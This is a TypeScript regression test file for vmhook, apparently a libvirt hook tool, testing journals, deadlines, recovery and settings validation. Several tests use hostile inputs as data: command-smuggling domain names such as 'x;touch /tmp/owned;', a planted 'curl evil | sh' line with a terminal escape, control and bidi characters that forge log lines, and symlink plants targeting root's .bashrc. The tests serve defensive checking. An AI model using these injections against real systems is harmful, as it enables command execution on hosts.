// Regression tests from the core review: the time budget of a prepare that
// finds leftovers, the setting an undo deadline names, `vmhook recover` while
// a hook is at work, domain names with spaces, corrupt and unreadable
// journals, host settings that are not objects, newlines in XML values, names
// that look like options, programs that leave a process in the background.
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { Deadline } from "../../lib/deadline.ts";
import { normalizePath, RootedHost } from "../../lib/host.ts";
import { withDomainLock } from "../../lib/lock.ts";
import { listJournals, newJournal, readJournal, writeJournal } from "../../lib/journal.ts";
import { paths } from "../../lib/paths.ts";
import { ensureStateDir, writeStateFile } from "../../lib/state-files.ts";
import type { UndoRecord } from "../../lib/plugin.ts";
import { loadSettings } from "../../lib/settings.ts";
import { PATTERNS } from "../../lib/validate.ts";
import { runHookEvent } from "../helpers/hook.ts";
import { HugepageKernel } from "../helpers/hugepage-kernel.ts";
import { SimHost } from "../helpers/simhost.ts";
import { cli } from "../helpers/cli.ts";
import { runDoctor } from "../../lib/diagnostics/doctor.ts";
import { fakeLibvirt } from "../helpers/fake-virsh.ts";

const UUID = "e1e1e1e1-0000-4000-8000-0000000000e1";
const XML = `<domain type='kvm'><name>vm</name><uuid>${UUID}</uuid><memory unit='GiB'>1</memory>
  <memoryBacking><hugepages/></memoryBacking>
  <metadata><vmhook:hooks xmlns:vmhook="urn:vmhook:1"><vmhook:hugepages/></vmhook:hooks></metadata></domain>`;

/** A journal left by a crashed run, holding one change of `plugin`. */
function leftover(sim: SimHost, plugin: string, undo: UndoRecord, name = "vm"): void {
  const journal = newJournal(sim, { name, uuid: UUID });
  journal.entries.push({ plugin, event: "prepare", description: "a change", undo, state: "applied", at: new Date().toISOString() });
  writeJournal(sim, journal);
}

/** A custom plugin whose undo takes half a second, then checks its deadline. */
function installSlowPlugin(sim: SimHost): void {
  sim.dir(paths.pluginsDir);
  fs.chmodSync(sim.resolve(paths.pluginsDir), 0o755);
  const plugin = "export default { name: 'slow', summary: 'slow undo', parse: () => ({}), undo(record, ctx) { ctx.host.sleep(500); ctx.deadline.check('undoing slowly'); } };\n";
  fs.writeFileSync(sim.resolve(`${paths.pluginsDir}/slow.mjs`), plugin, { mode: 0o644 });
}

test("prepare: undoing a leftover journal counts against the work deadline (the watchdog allows one work and one undo budget)", async () => {
  const sim = new SimHost().dir("/var/log");
  try {
    installSlowPlugin(sim);
    sim.file(paths.hostConfig, JSON.stringify({ deadlineSeconds: 0.3, undoDeadlineSeconds: 60 }));
    leftover(sim, "plugin:slow", { action: "wait" });
    const kernel = new HugepageKernel(sim, { initial: { 2048: 0 } });
    const outcome = await runHookEvent(sim, "prepare", "begin", XML);
    assert.is(outcome.code, 1);
    assert.is(outcome.stderr.split("\n")[0], "vmhook: an earlier run of vm left changes that cannot be undone; run vmhook recover vm and check vmhook status");
    assert.match(outcome.stderr, `vmhook ran out of time (deadline 0 s) while undoing slowly; raise "deadlineSeconds"`);
    assert.is(kernel.pool(2048), 0, "nothing new was taken");
  } finally {
    sim.cleanup();
  }
});

test("a command vmhook suggests for a domain takes its name, which whoever defined the domain chose, as one argument: pasted, '--force x;reboot' is neither an option nor a second command", async () => {
  const sim = new SimHost().dir("/var/log");
  const name = "--force x;reboot";
  const recover = "vmhook recover -- '--force x;reboot'";
  const leftovers = async () => (await runDoctor(sim)).host.find((finding) => finding.check === "leftovers")?.fix;
  try {
    installSlowPlugin(sim);
    sim.file(paths.hostConfig, JSON.stringify({ deadlineSeconds: 0.3, undoDeadlineSeconds: 0.3 }));
    leftover(sim, "plugin:slow", { action: "wait" }, name);
    writeJournal(sim, { ...readJournal(sim, UUID)!, phase: "starting" });
    const force = "if virsh domstate -- '--force x;reboot' says shut off and no start is under way, run vmhook recover --force -- '--force x;reboot'";
    assert.match((await cli(["recover", "--root", sim.root])).stdout, `nothing of it was undone: ${force}\n`);
    assert.is(await leftovers(), force);

    const xml = XML.replace("<name>vm</name>", `<name>${name}</name>`);
    assert.match((await runHookEvent(sim, "prepare", "begin", xml, name)).stderr.split("\n")[0]!, `; run ${recover} and check vmhook status`);
    assert.match((await runHookEvent(sim, "release", "end", xml, name)).stderr.split("\n")[0]!, `; see /var/log/vmhook.log, then run ${recover}`);
    assert.match((await cli(["status", "--root", sim.root])).stdout, `(${recover} gives it back)`);
    assert.is(await leftovers(), `fix the cause, then run ${recover}`);
    // As suggested, it gives back this domain's changes.
    sim.file(paths.hostConfig, JSON.stringify({ deadlineSeconds: 60, undoDeadlineSeconds: 60 }));
    assert.is((await cli(["recover", "--root", sim.root, "--", name])).stdout, `${name}: 1 change(s) undone\n`);
  } finally {
    sim.cleanup();
  }
});

test("an undo that runs out of time names the setting to raise: undoDeadlineSeconds", async () => {
  const sim = new SimHost().dir("/var/log");
  try {
    installSlowPlugin(sim);
    sim.file(paths.hostConfig, JSON.stringify({ deadlineSeconds: 60, undoDeadlineSeconds: 0.3 }));
    leftover(sim, "plugin:slow", { action: "wait" });
    const outcome = await runHookEvent(sim, "release", "end", XML);
    assert.is(outcome.code, 0);
    assert.match(outcome.stderr, `plugin:slow: a change: vmhook ran out of time (deadline 0 s) while undoing slowly; raise "undoDeadlineSeconds" in /etc/vmhook/vmhook.json`);
    // The leftover is a prepare's that never finished: what stays is of a start that failed.
    assert.is(readJournal(sim, UUID)!.phase, "rollback-failed");
  } finally {
    sim.cleanup();
  }
});

test("a rollback of a failed start killed partway, then failing again, still says a start failed (rollback-failed), not a release: vmhook status does not tell of a release of a VM that never ran", async () => {
  const sim = new SimHost().dir("/var/log");
  try {
    installSlowPlugin(sim);
    // Its undo keeps the journal as it is on disk while it is undone: what a hook killed at that moment leaves.
    const plugin = `export default { name: 'slow', summary: 'slow undo', parse: () => ({}), undo(record, ctx) { ctx.host.write('/killed.json', ctx.host.read('${paths.journal(UUID)}')); ctx.host.sleep(500); ctx.deadline.check('undoing slowly'); } };\n`;
    fs.writeFileSync(sim.resolve(`${paths.pluginsDir}/slow.mjs`), plugin, { mode: 0o644 });
    sim.file(paths.hostConfig, JSON.stringify({ deadlineSeconds: 60, undoDeadlineSeconds: 0.3 }));
    leftover(sim, "plugin:slow", { action: "wait" });
    sim.file("/killed.json", "");
    assert.is((await runHookEvent(sim, "release", "end", XML)).code, 0);
    // Killed while undoing: the journal as it was then, not as the finished undo wrote it.
    sim.file(paths.journal(UUID), sim.read("/killed.json"));
    assert.is((await runHookEvent(sim, "release", "end", XML)).code, 0);
    assert.is(readJournal(sim, UUID)!.phase, "rollback-failed");
    assert.match((await cli(["status", "--root", sim.root])).stdout, "its start failed, and undoing it did not finish");
  } finally {
    sim.cleanup();
  }
});

test("recover leaves a journal alone while a hook of the domain holds its lock (prepare: no pid file yet), even with --force; then undoes it (a UUID in any case names it)", async () => {
  const sim = new SimHost().dir("/var/log");
  try {
    new HugepageKernel(sim, { initial: { 2048: 512 } });
    const pool = () => sim.readTrimmed("/sys/kernel/mm/hugepages/hugepages-2048kB/nr_hugepages");
    leftover(sim, "hugepages", { action: "grow-pool", sizeKiB: 2048, node: null, added: 512, returned: 0 });

    await withDomainLock(sim, UUID, new Deadline(sim, 5000), async () => {
      assert.match((await cli(["status", "--root", sim.root])).stdout, `vm (${UUID}): its hook is at work right now (preparing); vmhook holds for it:\n`);
      for (const force of [[], ["--force"]]) {
        const { code, stdout } = await cli(["recover", ...force, "--root", sim.root]);
        assert.equal({ code, stdout }, { code: 0, stdout: "vm: a hook of this domain is at work right now; run vmhook recover again when it is done\n" });
      }
      assert.ok(readJournal(sim, UUID));
      assert.is(pool(), "512");
      const json = JSON.parse((await cli(["recover", "--json", "--root", sim.root])).stdout);
      assert.equal(json.recovered, [{ domain: { name: "vm", uuid: UUID }, skipped: "hook-at-work" }]);
    });

    const { code, stdout } = await cli(["recover", UUID.toUpperCase(), "--root", sim.root]);
    assert.equal({ code, stdout }, { code: 0, stdout: "vm: 1 change(s) undone\n" });
    // the CLI writes the pool file itself (a plain RootedHost, no simulated kernel)
    assert.equal([pool(), sim.stateFiles()], ["0", []]);
  } finally {
    sim.cleanup();
  }
});

test("RootedHost resolves a path as node:path did (normalize, then join to the root), and never above the root", () => {
  const hostPaths = ["/", "//", "/a", "/a/", "/a//b", "/a/./b", "/a/../b", "/../..", "/a/b/..", "/a/b/../", "/a/b/.", "/..", "/a/...", "/a/..b", "/a/b/c/../../d/", "///x///y///", "/a/b/../../../etc/passwd", "/proc/1/fd/3", "/sys/bus/pci/devices/0000:01:00.0/driver", "/a/.hidden/b", "/a/b.c/d", "/run/vmhook/"];
  for (const hostPath of hostPaths) assert.is(normalizePath(hostPath), path.posix.normalize(hostPath), hostPath);
  for (const root of ["/", "/tmp/root", "/tmp/root/", "relative/root", "./x/../y"]) {
    for (const hostPath of hostPaths) {
      const resolved = new RootedHost(root).resolve(hostPath);
      assert.is(resolved, path.resolve(root) === "/" ? path.posix.normalize(hostPath) : path.join(path.resolve(root), path.posix.normalize(hostPath)), `${root} ${hostPath}`);
      if (path.resolve(root) !== "/") assert.ok(resolved.startsWith(`${path.resolve(root)}/`) || resolved === path.resolve(root), `${resolved} stays under ${root}`);
    }
  }
});

test("a domain name with spaces, or . or .. (libvirt takes both), is kept exactly, so status and recover find libvirt's pid file and leave the running VM's changes", async () => {
  for (const name of [" my vm ", ".", ".."]) {
    const sim = new SimHost().dir("/var/log");
    try {
      const kernel = new HugepageKernel(sim, { initial: { 2048: 0 } });
      const xml = XML.replace("<name>vm</name>", `<name>${name}</name>`);
      for (const event of ["prepare", "started"]) assert.is((await runHookEvent(sim, event, "begin", xml, name)).code, 0);
      assert.is(readJournal(sim, UUID)!.domain.name, name);
      sim.file(`/run/libvirt/qemu/${name}.pid`, process.pid);
      const { code, stdout } = await cli(["recover", "--root", sim.root]);
      assert.equal({ code, stdout }, { code: 0, stdout: `${name}: still running; its changes are given back when it stops (use --force to undo now)\n` });
      assert.is(kernel.pool(2048), 512, `${name}: its pages stay`);
      assert.match((await cli(["status", "--root", sim.root])).stdout, `${name} (${UUID}): running; vmhook holds for it`);
    } finally {
      sim.cleanup();
    }
  }
});

test("host settings that are not JSON objects are errors naming the file and what to write", () => {
  const sim = new SimHost();
  try {
    const cases: [string, string][] = [
      ["null", `/etc/vmhook/vmhook.json holds null; it must be a JSON object such as {"deadlineSeconds": 120}`],
      ["[]", `/etc/vmhook/vmhook.json holds []; it must be a JSON object such as {"deadlineSeconds": 120}`],
      [`{"plugins": {"vfio": null}}`, `/etc/vmhook/vmhook.json: "plugins": {"vfio": …} must be an object of that plugin's settings`],
      [`{"plugins": {"vfio": ["gdm.service"]}}`, `/etc/vmhook/vmhook.json: "plugins": {"vfio": …} must be an object of that plugin's settings`],
    ];
    for (const [text, message] of cases) {
      sim.file(paths.hostConfig, text);
      assert.throws(() => loadSettings(sim), (error: Error) => error.message === message, text);
    }
    sim.file(paths.hostConfig, `{"plugins": {"vfio": {"displayManagerUnits": ["gdm.service"]}}}`);
    assert.equal(loadSettings(sim).plugins, { vfio: { displayManagerUnits: ["gdm.service"] } });
  } finally {
    sim.cleanup();
  }
});

test("a number in the host settings beyond what JSON.parse holds (1e400, read as Infinity) is refused as that, not said to be null as JSON.stringify writes it", () => {
  const sim = new SimHost();
  try {
    const cases: [string, string][] = [
      [`{"deadlineSeconds": 1e400}`, `/etc/vmhook/vmhook.json: "deadlineSeconds" is 1.8e308 or more; use a number of seconds more than 0 and at most 3600 (a fraction is taken: 0.5)`],
      [`{"plugins": {"plugin:gate": {"timeoutSeconds": -1e400}}}`, `/etc/vmhook/vmhook.json: "plugins": {"plugin:gate": {"timeoutSeconds": -1.8e308 or less}} must be a number of seconds more than 0 and at most 3600 (a fraction is taken: 0.5)`],
      [`{"plugins": {"vfio": {"stopTimeoutSeconds": 1e999}}}`, `/etc/vmhook/vmhook.json: plugins.vfio.stopTimeoutSeconds must be a number of seconds more than 0 and at most 600 (a fraction is taken: 0.5); it is 1.8e308 or more`],
      [`{"plugins": {"vfio": {"helperServices": [1e400]}}}`, `/etc/vmhook/vmhook.json: plugins.vfio.helperServices must be a list of names, e.g. ["gdm.service"]; it is [1.8e308 or more]`],
      [`{"plugins": {"hugepages": {"minFreeMiB": 1e400}}}`, `/etc/vmhook/vmhook.json: "plugins": {"hugepages": {"minFreeMiB": 1.8e308 or more}} is not a whole number of MiB from 0 to 4294967296; e.g. 2048 keeps 2 GiB free`],
    ];
    for (const [text, message] of cases) {
      sim.file(paths.hostConfig, text);
      assert.throws(() => loadSettings(sim), (error: Error) => error.message === message, text);
    }
  } finally {
    sim.cleanup();
  }
});

test("a host setting this vmhook does not know (a typo, one a later or earlier vmhook has), at the top, of a plugin or a plugin's name, is refused naming it and the one meant, not silently left at its default", () => {
  const sim = new SimHost();
  try {
    const cases: [string, string][] = [
      [`{"undoDeadlineSecond": 300}`, `/etc/vmhook/vmhook.json: "undoDeadlineSecond" is not a host setting of this vmhook; did you mean "undoDeadlineSeconds"?`],
      [`{"deadlineSeconds": 60, "stuckWriteSeconds": 30}`, `/etc/vmhook/vmhook.json: "stuckWriteSeconds" is not a host setting of this vmhook (it has deadlineSeconds, undoDeadlineSeconds and plugins): remove it, or if a later vmhook has it, install that one again`],
      [`{"plugins": {"vfio": {"bindTimeoutSecond": 30}}}`, `/etc/vmhook/vmhook.json: plugins.vfio.bindTimeoutSecond is not a setting of the vfio plugin; did you mean "bindTimeoutSeconds"?`],
      [`{"plugins": {"hugepages": {"minFreeMB": 2048}}}`, `/etc/vmhook/vmhook.json: plugins.hugepages.minFreeMB is not a setting of the hugepages plugin; did you mean "minFreeMiB"?`],
      [`{"plugins": {"hugepages": {"reserve": 2048}}}`, `/etc/vmhook/vmhook.json: plugins.hugepages.reserve is not a setting of the hugepages plugin (it has minFreeMiB): remove it, or if a later vmhook has it, install that one again`],
      [`{"plugins": {"vfio": {"bindTimeoutSeconds": "30"}}}`, `/etc/vmhook/vmhook.json: plugins.vfio.bindTimeoutSeconds must be a number of seconds more than 0 and at most 600 (a fraction is taken: 0.5); it is "30"`],
      [`{"plugins": {"hugepages": {"minFreeMiB": -1}}}`, `/etc/vmhook/vmhook.json: "plugins": {"hugepages": {"minFreeMiB": -1}} is not a whole number of MiB from 0 to 4294967296; e.g. 2048 keeps 2 GiB free`],
      [`{"plugins": {"vfio": {"displayManagerCommand": {"stop": ["rc-service", "sddm", "stop"], "start": ["rc-service", "sddm", "start"], "proceses": ["sddm"]}}}}`, `/etc/vmhook/vmhook.json: plugins.vfio.displayManagerCommand.proceses is not a setting of the vfio plugin; did you mean "processes"?`],
      [`{"plugins": {"vifo": {"bindTimeoutSeconds": 30}}}`, `/etc/vmhook/vmhook.json: "plugins": {"vifo": …}: no plugin of this vmhook has host settings by that name; did you mean "vfio"?`],
      [`{"plugins": {"isolate": {}}}`, `/etc/vmhook/vmhook.json: "plugins": {"isolate": …}: no plugin of this vmhook has host settings by that name (vfio, hugepages and forward have; a custom plugin's are under "plugin:NAME"): remove it`],
      // Names every JavaScript object has (Object.prototype's): no plugin's either.
      [`{"plugins": {"constructor": {}}}`, `/etc/vmhook/vmhook.json: "plugins": {"constructor": …}: no plugin of this vmhook has host settings by that name (vfio, hugepages and forward have; a custom plugin's are under "plugin:NAME"): remove it`],
      [`{"plugins": {"toString": {"keys": 1}}}`, `/etc/vmhook/vmhook.json: "plugins": {"toString": …}: no plugin of this vmhook has host settings by that name (vfio, hugepages and forward have; a custom plugin's are under "plugin:NAME"): remove it`],
    ];
    for (const [text, message] of cases) {
      sim.file(paths.hostConfig, text);
      assert.throws(() => loadSettings(sim), (error: Error) => error.message === message, text);
    }
  } finally {
    sim.cleanup();
  }
});

test("a newline in an XML value cannot forge log lines or push the cause off stderr's first line", async () => {
  const sim = new SimHost().dir("/var/log");
  try {
    new HugepageKernel(sim, { initial: { 2048: 0 } });
    const forged = "2026-01-01T00:00:00.000Z [other release end] released: 9 change(s) undone";
    const outcome = await runHookEvent(sim, "prepare", "begin", XML.replace("<vmhook:hugepages/>", `<vmhook:hugepages size="2M&#10;${forged}"/>`));
    assert.is(outcome.code, 1);
    // The value is quoted by its start and length, its newline escaped.
    const quotedValue = (separator: string) => `size="2M${separator}${forged.slice(0, 37)}…" (${3 + forged.length} characters)`;
    assert.match(outcome.stderr.split("\n")[0]!, `${quotedValue("\\n")} is not a size`);
    const log = sim.read(paths.log).trim().split("\n");
    assert.is(log.length, 1);
    assert.match(log[0]!, `[vm prepare begin] error: <vmhook:hugepages ${quotedValue("\\n")}>`);
  } finally {
    sim.cleanup();
  }
});

test("a domain name or XML value with a carriage return or a C1 control (NEL, CSI) cannot forge lines in the log or on stderr", async () => {
  const sim = new SimHost().dir("/var/log");
  try {
    new HugepageKernel(sim, { initial: { 2048: 0 } });
    const forged = "2026-01-01T00:00:00.000Z [other release end] released: 9 change(s) undone";
    // libvirt refuses a newline in a domain name, not a carriage return; XML 1.0 allows C1 controls anywhere.
    const name = `vm\r${forged}\u009b2J`;
    const xml = XML.replace("<name>vm</name>", `<name>vm&#13;${forged}\u009b2J</name>`).replace("<vmhook:hugepages/>", `<vmhook:hugepages size="2M\u0085${forged}"/>`);
    const outcome = await runHookEvent(sim, "prepare", "begin", xml, name);
    assert.is(outcome.code, 1);
    const controls = /[\r\u0085\u009b\u2028\u2029]/;
    assert.not.match(outcome.stderr, controls);
    const log = sim.read(paths.log);
    assert.not.match(log, controls);
    assert.is(log.trim().split("\n").length, 1);
    assert.match(log, `[vm\\r${forged}\\u009b2J prepare begin] error: <vmhook:hugepages size="2M\\u0085${forged.slice(0, 37)}…" (${3 + forged.length} characters)>`);
  } finally {
    sim.cleanup();
  }
});

test("a symlink, hard link or another user's file at /var/log/vmhook.log (a group may write /var/log: root:syslog 0775 on Ubuntu) is never appended to; the cause still reaches stderr", async () => {
  const sim = new SimHost().dir("/var/log");
  try {
    new HugepageKernel(sim, { initial: { 2048: 0 } });
    const bashrc = sim.file("/root/.bashrc", "# root's shell\n").resolve("/root/.bashrc");
    // Each log line starts "[NAME prepare begin]": a shell reading it would run the command between the semicolons.
    const name = "x;touch /tmp/owned;";
    const badXml = XML.replace("<vmhook:hugepages/>", `<vmhook:hugepages size="lots"/>`);
    for (const plant of [fs.symlinkSync, fs.linkSync]) {
      fs.rmSync(sim.resolve(paths.log), { force: true });
      plant(bashrc, sim.resolve(paths.log));
      const outcome = await runHookEvent(sim, "prepare", "begin", badXml, name);
      assert.is(outcome.code, 1);
      assert.match(outcome.stderr.split("\n")[0]!, `size="lots" is not a size`);
      assert.match(outcome.stderr, /\n {2}\(prepare of x;touch \/tmp\/owned;; log: \/var\/log\/vmhook\.log\)\nvmhook: warn: this run is missing from vmhook's log: \/var\/log\/vmhook\.log is a (symlink|hard link \(2 names\)), not the log vmhook writes;[^\n]*\n$/, "the refused log said once, after the cause");
      assert.is(fs.readFileSync(bashrc, "utf8"), "# root's shell\n", plant.name);
    }
    // A log someone else created there: whoever owns it could edit or empty what root writes.
    fs.rmSync(sim.resolve(paths.log));
    fs.writeFileSync(sim.resolve(paths.log), "");
    fs.chownSync(sim.resolve(paths.log), 1000, 1000);
    assert.is((await runHookEvent(sim, "prepare", "begin", badXml, name)).code, 1);
    assert.is(fs.readFileSync(sim.resolve(paths.log), "utf8"), "");
  } finally {
    sim.cleanup();
  }
});

test("vmhook recover says when the log is one vmhook will not write through, also with nothing to recover (README: the hook never seems to run), and once with a journal to undo", async () => {
  const sim = new SimHost().dir("/var/log");
  try {
    new HugepageKernel(sim, { initial: { 2048: 0 } });
    const elsewhere = sim.file("/root/elsewhere", "").resolve("/root/elsewhere");
    fs.symlinkSync(elsewhere, sim.resolve(paths.log));
    const warning = "vmhook: warn: /var/log/vmhook.log is a symlink, not the log vmhook writes; others may write /var/log, so vmhook neither writes nor reads through it: inspect it, then remove it (rm /var/log/vmhook.log)\n";
    const idle = await cli(["recover", "--root", sim.root]);
    assert.equal([idle.code, idle.stdout, idle.stderr], [0, "nothing to recover\n", warning]);
    // A journal of a domain that no longer runs: undone, the log's refusal said once, not per line or per domain.
    assert.is((await runHookEvent(sim, "prepare", "begin", XML)).code, 0);
    const undone = await cli(["recover", "--force", "--root", sim.root]);
    assert.is(undone.code, 0, undone.stdout + undone.stderr);
    assert.match(undone.stderr, "undo grow the 2M pool");
    assert.is(undone.stderr.split(warning).length - 1, 1, undone.stderr);
    assert.is(fs.readFileSync(elsewhere, "utf8"), "");
  } finally {
    sim.cleanup();
  }
});

test("vmhook hook reads what the hook logged only from vmhook's own log: a symlink or another user's file at /var/log/vmhook.log, growing meanwhile, never reaches root's terminal", async () => {
  const root = fs.mkdtempSync(path.join(os.tmpdir(), "vmhook-hook-log-"));
  try {
    fs.mkdirSync(path.join(root, "var/log"), { recursive: true });
    const feed = path.join(root, "home/alice/feed");
    fs.mkdirSync(path.dirname(feed), { recursive: true });
    fs.writeFileSync(feed, "");
    const plants = {
      symlink: () => fs.symlinkSync(feed, path.join(root, paths.log)),
      "another user's file": () => {
        fs.writeFileSync(path.join(root, paths.log), "");
        fs.chownSync(path.join(root, paths.log), 1000, 1000);
      },
    };
    for (const [plant, make] of Object.entries(plants)) {
      fs.rmSync(path.join(root, paths.log), { force: true });
      make();
      // While the event runs, the planted file grows (through the link, the file it names): a terminal escape and what the user wants root to see.
      const grows = async () => {
        fs.appendFileSync(path.join(root, paths.log), "\u001b]0;owned\u0007 run: curl evil | sh\n");
        return 0;
      };
      const outcome = await cli(["hook", "vm", "prepare", "begin", "--root", root], undefined, grows);
      assert.is(outcome.code, 0, plant);
      assert.not.match(outcome.stderr, "curl evil", plant);
      assert.not.match(outcome.stderr, "\u001b", plant);
      assert.match(outcome.stderr, `${paths.log} is `, plant);
    }
  } finally {
    fs.rmSync(root, { recursive: true, force: true });
  }
});

test("module and unit names never start with a dash (they are arguments of modprobe, rmmod and systemctl)", () => {
  for (const name of ["-r", "--remove-holders"]) assert.not.ok(PATTERNS.moduleName.test(name), name);
  for (const name of ["--force", "-sKILL"]) assert.not.ok(PATTERNS.unitName.test(name), name);
  for (const name of ["vfio_pci", "nvidia-drm", "kvmfr"]) assert.ok(PATTERNS.moduleName.test(name), name);
  for (const name of ["gdm.service", "getty@tty1.service", "dev-disk-by\\x2duuid.device"]) assert.ok(PATTERNS.unitName.test(name), name);
});

test("a corrupt journal fails prepare with the file and the fix, and no stack trace for the user", async () => {
  const sim = new SimHost().dir("/var/log").file("/proc/meminfo", "MemTotal:       8388608 kB");
  try {
    sim.file(paths.journal(UUID), "{ half a jour");
    const outcome = await runHookEvent(sim, "prepare", "begin", XML);
    assert.is(outcome.code, 1);
    assert.match(outcome.stderr, new RegExp(`^vmhook: journal /run/vmhook/${UUID}.json cannot be read \\(.*\\); inspect it, then remove it by hand\n  \\(prepare of vm; log: /var/log/vmhook.log\\)\n$`));
  } finally {
    sim.cleanup();
  }
});

test("a journal that exists but cannot be read is an error, not \"holds nothing\" (status shows it as unreadable)", () => {
  const sim = new SimHost();
  try {
    sim.dir(paths.journal(UUID)); // read(2) fails with EISDIR
    const message = `journal /run/vmhook/${UUID}.json cannot be read (EISDIR)`;
    assert.throws(() => readJournal(sim, UUID), (error: Error) => error.message === message);
    assert.equal(listJournals(sim), { journals: [], broken: [{ file: paths.journal(UUID), error: message }] });
    assert.is(readJournal(sim, "e1e1e1e1-0000-4000-8000-0000000000e2"), undefined, "a missing journal is no error");
  } finally {
    sim.cleanup();
  }
});

test("a journal whose domain is not the one its file is named for (copied or edited by hand) is unreadable, not another domain's", async () => {
  const sim = new SimHost();
  try {
    const OTHER = "e1e1e1e1-0000-4000-8000-0000000000e2";
    const journal = { version: 1, domain: { name: "vm", uuid: OTHER }, phase: "running", pid: 1, createdAt: "2026-01-01T00:00:00.000Z", updatedAt: "2026-01-01T00:00:00.000Z", entries: [] };
    sim.file(paths.journal(UUID), JSON.stringify(journal));
    assert.throws(() => readJournal(sim, UUID), (error: Error) => error.message.includes(`names domain vm (${OTHER}), not ${UUID}`));
    sim.file(paths.journal(UUID), JSON.stringify({ ...journal, domain: undefined }));
    assert.throws(() => readJournal(sim, UUID), (error: Error) => error.message.includes("names no domain"));
    const status = await cli(["status", "--root", sim.root]);
    assert.match(status.stdout, `unreadable journal /run/vmhook/${UUID}.json`);
  } finally {
    sim.cleanup();
  }
});

test("vmhook status shows a domain name's carriage return and C1 controls escaped: a name cannot rewrite root's terminal", async () => {
  const sim = new SimHost();
  try {
    writeJournal(sim, { ...newJournal(sim, { name: "vm\r\u009b2Jok", uuid: UUID }), phase: "running" });
    const status = await cli(["status", "--root", sim.root]);
    assert.not.match(status.stdout, /[\r\u0085\u009b]/);
    assert.match(status.stdout, "vm\\r\\u009b2Jok");
  } finally {
    sim.cleanup();
  }
});

test("a domain name's bidirectional controls (RLO U+202E, isolates U+2066-2069, marks U+200E/F, ALM U+061C) are shown escaped in vmhook status and the log: a name cannot reorder what root reads after it", async () => {
  const sim = new SimHost().dir("/var/log");
  try {
    // Shown raw, "vm\u202e..." makes the terminal draw the rest of the line right to left.
    const name = "vm\u202ecod\u2066x\u2069\u200e\u200f\u061c\u202a";
    writeJournal(sim, { ...newJournal(sim, { name, uuid: UUID }), phase: "running" });
    const status = await cli(["status", "--root", sim.root]);
    const bidi = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
    assert.not.match(status.stdout, bidi);
    assert.match(status.stdout, "vm\\u202ecod\\u2066x\\u2069\\u200e\\u200f\\u061c\\u202a");
    new HugepageKernel(sim, { initial: { 2048: 0 } });
    const outcome = await runHookEvent(sim, "prepare", "begin", XML.replace("<name>vm</name>", `<name>${name}</name>`).replace("<vmhook:hugepages/>", '<vmhook:hugepages size="lots"/>'), name);
    assert.is(outcome.code, 1);
    assert.not.match(outcome.stderr, bidi);
    assert.not.match(sim.read(paths.log), bidi);
  } finally {
    sim.cleanup();
  }
});

test("recover reports a journal it cannot read and exits 1, instead of \"nothing to recover\"", async () => {
  const sim = new SimHost();
  try {
    sim.file(paths.journal(UUID), "{ half a jour");
    const text = await cli(["recover", "--root", sim.root]);
    assert.is(text.code, 1);
    assert.match(text.stdout, new RegExp(`^unreadable journal /run/vmhook/${UUID}.json: journal .* cannot be read .*; nothing of it was undone\n$`));
    const json = await cli(["recover", "--json", "--root", sim.root]);
    assert.is(json.code, 1);
    assert.equal(JSON.parse(json.stdout).unreadable.map((item: { file: string }) => item.file), [paths.journal(UUID)]);
  } finally {
    sim.cleanup();
  }
});

test("recover NAME or UUID: an unreadable journal that may be that domain's is reported with exit 1, never \"nothing to recover\"", async () => {
  const sim = new SimHost();
  try {
    sim.file(paths.journal(UUID), "{ half a jour");
    // By UUID the file is that domain's; by name it cannot be told whose it is, so it is named too.
    for (const name of [UUID, UUID.toUpperCase(), "vm"]) {
      const text = await cli(["recover", name, "--root", sim.root]);
      assert.is(text.code, 1, `recover ${name}`);
      assert.match(text.stdout, new RegExp(`^unreadable journal /run/vmhook/${UUID}.json: journal .* cannot be read .*; nothing of it was undone\n$`), `recover ${name}`);
    }
    // Another domain's UUID: that journal is not its.
    const other = await cli(["recover", "e1e1e1e1-0000-4000-8000-0000000000e2", "--root", sim.root]);
    assert.is(other.code, 0);
    assert.is(other.stdout, "nothing to recover for e1e1e1e1-0000-4000-8000-0000000000e2 (no journal in /run/vmhook)\n");
  } finally {
    sim.cleanup();
  }
});

test("exec: a program that exits but leaves a background process holding its output finished; it did not time out", () => {
  const result = new RootedHost("/").exec("/bin/sh", ["-c", "sleep 5 & echo done"], { timeoutMs: 300 });
  assert.equal([result.status, result.stdout, result.timedOut, result.error], [0, "done\n", false, undefined]);
  const stuck = new RootedHost("/").exec("/bin/sh", ["-c", "sleep 5"], { timeoutMs: 300 });
  assert.equal([stuck.status, stuck.timedOut, stuck.error], [null, true, undefined]);
});

test("execAsync: as exec, without blocking the process; the status, the output, a background process holding it, the timeout, a missing program", async () => {
  const host = new RootedHost("/");
  let ticks = 0;
  const ticking = setInterval(() => ticks++, 5);
  const failed = await host.execAsync("/bin/sh", ["-c", "sleep 0.2; echo out; echo err >&2; exit 3"], { timeoutMs: 5000 });
  clearInterval(ticking);
  assert.equal([failed.status, failed.signal, failed.stdout, failed.stderr, failed.timedOut, failed.error], [3, null, "out\n", "err\n", false, undefined]);
  assert.ok(ticks > 5, `the event loop ran meanwhile (${ticks} ticks)`);
  const left = await host.execAsync("/bin/sh", ["-c", "sleep 5 & echo done"], { timeoutMs: 300 });
  assert.equal([left.status, left.stdout, left.timedOut, left.error], [0, "done\n", false, undefined]);
  const stuck = await host.execAsync("/bin/sh", ["-c", "sleep 5"], { timeoutMs: 300 });
  assert.equal([stuck.status, stuck.signal, stuck.timedOut, stuck.error], [null, "SIGKILL", true, undefined]);
  const input = await host.execAsync("/bin/cat", [], { timeoutMs: 5000, input: "fed" });
  assert.is(input.stdout, "fed");
  assert.match((await host.execAsync("vmhook-no-such-program", [], { timeoutMs: 1000 })).error!, "not found");
});

/**
 * Runs `sh -c PROGRAM` through execAsync in a vmhook of its own (bun running
 * `prelude` first; DIR in both is a fresh directory), interrupts it with
 * `interrupt`, checks that vmhook ended as SIGINT ends it, waits `waitMs` past
 * that, and says whether the program touched DIR/changed after vmhook was gone.
 */
async function programOutlivedInterrupt(prelude: string, program: string, interrupt: (vmhook: BunSubprocess, dir: string) => Promise<void>, waitMs: number): Promise<boolean> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "vmhook-interrupt-"));
  try {
    const script = path.join(dir, "run.ts");
    const inDir = (text: string) => text.replaceAll("DIR", dir);
    fs.writeFileSync(
      script,
      `import { RootedHost } from ${JSON.stringify(path.resolve("lib/host.ts"))};
${inDir(prelude)}
